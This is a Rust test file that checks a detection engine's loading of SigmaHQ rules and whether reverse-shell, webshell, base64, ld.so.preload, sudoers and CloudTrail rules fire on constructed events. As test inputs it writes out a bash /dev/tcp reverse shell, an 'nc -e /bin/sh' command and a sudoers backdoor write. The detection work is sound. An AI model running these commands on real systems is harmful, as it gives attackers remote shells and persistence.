//! Loads the SigmaHQ rules in `../shared/datasets/sigma` (read in place, never copied), reports
//! the load rate overall and per folder with the refusal reasons, and runs a few unchanged rules
//! against hand-built events.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use fnwarden_event::{Ancestor, CloudCall, Event, EventKind, FileAction, LogLine, Process, Timestamp};
use fnwarden_rules::{Rule, RuleSet};

fn dataset() -> Option<PathBuf> {
    let p = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/datasets/sigma");
    if p.is_dir() {
        Some(p)
    } else {
        println!("skipped: SigmaHQ dataset not found at {}", p.display());
        None
    }
}

fn yml_files(dir: &Path, out: &mut Vec<PathBuf>) {
    let Ok(entries) = std::fs::read_dir(dir) else { return };
    for e in entries.flatten() {
        let p = e.path();
        if p.is_dir() {
            yml_files(&p, out);
        } else if p.extension().is_some_and(|x| x == "yml") {
            out.push(p);
        }
    }
}

/// The reason with quoted specifics blanked, so that refusals group.
fn reason(msg: &str) -> String {
    let mut out = String::new();
    let mut inside = None;
    for c in msg.chars() {
        match (inside, c) {
            (None, '`' | '"') => {
                inside = Some(c);
                out.push('…');
            }
            (Some(q), c) if c == q => inside = None,
            (Some(_), _) => {}
            (None, c) => out.push(c),
        }
    }
    out.chars().take(160).collect()
}

#[test]
fn sigmahq_rules_load() {
    let Some(root) = dataset() else { return };
    let mut files = Vec::new();
    yml_files(&root, &mut files);
    files.sort();
    assert!(!files.is_empty());
    let mut per_folder: BTreeMap<String, (usize, usize)> = BTreeMap::new();
    let mut reasons: BTreeMap<String, Vec<String>> = BTreeMap::new();
    let (mut loaded, mut total) = (0, 0);
    for f in &files {
        let set = RuleSet::load(std::slice::from_ref(f));
        let rel = f.strip_prefix(&root).unwrap_or(f);
        let folder = rel.parent().map(|p| p.display().to_string()).unwrap_or_default();
        let entry = per_folder.entry(folder).or_default();
        entry.1 += 1;
        total += 1;
        if set.errors.is_empty() && set.rules.len() == 1 {
            entry.0 += 1;
            loaded += 1;
        } else {
            for e in &set.errors {
                reasons.entry(reason(&e.message)).or_default().push(format!("{}:{}:{}", rel.display(), e.line, e.col));
            }
        }
    }
    println!("SigmaHQ load rate: {loaded}/{total} = {:.1}%", 100.0 * loaded as f64 / total as f64);
    for (folder, (ok, n)) in &per_folder {
        println!("  {folder:<45} {ok:>4}/{n:<4} {:>6.1}%", 100.0 * *ok as f64 / *n as f64);
    }
    println!("refusals by reason:");
    for (r, at) in &reasons {
        println!("  {:>3} × {r}", at.len());
        for a in at {
            println!("        {a}");
        }
    }
    assert!(loaded * 100 >= total * 95, "load rate {loaded}/{total} is below 95%");
}

fn sigma_rule(file: &str) -> Option<Rule> {
    let path = dataset()?.join(file);
    let set = RuleSet::load(&[path]);
    assert!(set.errors.is_empty(), "{file}: {:?}", set.errors);
    set.rules.into_iter().next()
}

fn exec(args: &[&str], exe: &str, parent: Option<(&str, &[&str])>) -> Event {
    let mut e = Event::new(EventKind::Execve, Timestamp::from_secs(1_700_000_000));
    e.process = Some(Process {
        exe: exe.into(),
        args: args.iter().map(|s| s.to_string()).collect(),
        ancestors: parent
            .map(|(pexe, pargs)| {
                vec![Ancestor { exe: pexe.into(), args: pargs.iter().map(|s| s.to_string()).collect(), ..Default::default() }]
            })
            .unwrap_or_default(),
        ..Default::default()
    });
    e.normalize();
    e
}

/// A rule fires when the engine would give it the event: its kind is allowed and its
/// condition holds.
fn fires(r: &Rule, e: &Event) -> bool {
    r.kinds.contains(e.kind) && r.condition.matches(e)
}

#[test]
fn reverse_shell_keywords_fire_on_a_command_line() {
    let Some(r) = sigma_rule("linux/builtin/lnx_shell_susp_rev_shells.yml") else { return };
    let shell = exec(&["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"], "/bin/bash", None);
    assert!(fires(&r, &shell));
    let benign = exec(&["bash", "-c", "echo hello"], "/bin/bash", None);
    assert!(!fires(&r, &benign));
    // The same keywords search log lines.
    let mut log = Event::new(EventKind::Log, Timestamp::from_secs(1_700_000_000));
    log.log = Some(LogLine { message: "cmd: nc -e /bin/sh 10.0.0.1 4444".into(), ..Default::default() });
    log.normalize();
    assert!(fires(&r, &log));
}

#[test]
fn process_creation_rules_fire_unchanged() {
    let Some(r) = sigma_rule("linux/process_creation/proc_creation_lnx_base64_decode.yml") else { return };
    assert!(fires(&r, &exec(&["base64", "-d", "/tmp/x"], "/usr/bin/base64", None)));
    assert!(!fires(&r, &exec(&["base64", "/tmp/x"], "/usr/bin/base64", None)));
    assert!(!fires(&r, &exec(&["cat", "-d"], "/usr/bin/cat", None)));

    // Parent fields: a shell spawned by a web server.
    let Some(w) = sigma_rule("linux/process_creation/proc_creation_lnx_webshell_detection.yml") else { return };
    let from_tomcat =
        exec(&["whoami"], "/usr/bin/whoami", Some(("/usr/lib/jvm/bin/java", &["/usr/lib/jvm/bin/java", "-Dcatalina.base=/opt/tomcat"])));
    assert!(fires(&w, &from_tomcat));
    let from_nginx = exec(&["whoami"], "/usr/bin/whoami", Some(("/usr/sbin/nginx", &["nginx"])));
    assert!(fires(&w, &from_nginx));
    let from_bash = exec(&["whoami"], "/usr/bin/whoami", Some(("/bin/bash", &["bash"])));
    assert!(!fires(&w, &from_bash));
}

#[test]
fn auditd_and_file_rules_fire_unchanged() {
    let Some(r) = sigma_rule("linux/auditd/execve/lnx_auditd_capabilities_discovery.yml") else { return };
    assert!(fires(&r, &exec(&["getcap", "-r", "/"], "/usr/sbin/getcap", None)));
    assert!(!fires(&r, &exec(&["getcap", "/usr/bin/ping"], "/usr/sbin/getcap", None)));

    let Some(p) = sigma_rule("linux/auditd/path/lnx_auditd_ld_so_preload_mod.yml") else { return };
    let mut open = Event::new(EventKind::Open, Timestamp::from_secs(1_700_000_000));
    open.file = Some(FileAction { path: "/etc/ld.so.preload".into(), flags: 0o1, ..Default::default() });
    open.normalize();
    assert!(fires(&p, &open));

    let Some(f) = sigma_rule("linux/file_event/file_event_lnx_persistence_sudoers_files.yml") else { return };
    let mut write = Event::new(EventKind::Open, Timestamp::from_secs(1_700_000_000));
    write.process = Some(Process { exe: "/usr/bin/tee".into(), ..Default::default() });
    write.file = Some(FileAction { path: "/etc/sudoers.d/backdoor".into(), flags: 0o101, ..Default::default() });
    write.normalize();
    assert!(fires(&f, &write));
    // Reading is not a file event; the dpkg filter applies.
    let mut read = write.clone();
    read.file = Some(FileAction { path: "/etc/sudoers.d/backdoor".into(), flags: 0, ..Default::default() });
    read.normalize();
    assert!(!fires(&f, &read));
    let mut dpkg = write.clone();
    dpkg.process = Some(Process { exe: "/usr/bin/dpkg".into(), ..Default::default() });
    dpkg.file = Some(FileAction { path: "/etc/sudoers.d/README.dpkg-new".into(), flags: 0o101, ..Default::default() });
    dpkg.normalize();
    assert!(!fires(&f, &dpkg));
}

#[test]
fn cloudtrail_rules_fire_on_cloudtrail_records() {
    let Some(r) = sigma_rule("cloud/aws/cloudtrail/aws_disable_bucket_versioning.yml") else { return };
    let record = serde_json::json!({
        "eventVersion": "1.08",
        "userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::111122223333:user/mallory", "accessKeyId": "AKIAEXAMPLE"},
        "eventTime": "2026-11-22T10:00:00Z",
        "eventSource": "s3.amazonaws.com",
        "eventName": "PutBucketVersioning",
        "awsRegion": "eu-west-1",
        "sourceIPAddress": "198.51.100.7",
        "userAgent": "aws-cli/2.15",
        "requestParameters": {"bucketName": "backups", "VersioningConfiguration": {"Status": "Suspended"}},
        "responseElements": null
    });
    let mut e = Event::new(EventKind::CloudApi, Timestamp::from_secs(1_700_000_000));
    e.cloud = Some(CloudCall {
        provider: "aws".into(),
        service: "s3.amazonaws.com".into(),
        operation: "PutBucketVersioning".into(),
        principal: "arn:aws:iam::111122223333:user/mallory".into(),
        raw: record.clone(),
        ..Default::default()
    });
    e.normalize();
    assert!(fires(&r, &e));
    let mut enabled = e.clone();
    if let Some(c) = enabled.cloud.as_mut() {
        c.raw["requestParameters"]["VersioningConfiguration"]["Status"] = "Enabled".into();
    }
    enabled.normalize();
    assert!(!fires(&r, &enabled));
    // Another provider's record is not CloudTrail.
    let mut azure = e.clone();
    if let Some(c) = azure.cloud.as_mut() {
        c.provider = "azure".into();
    }
    assert!(!fires(&r, &azure));
}
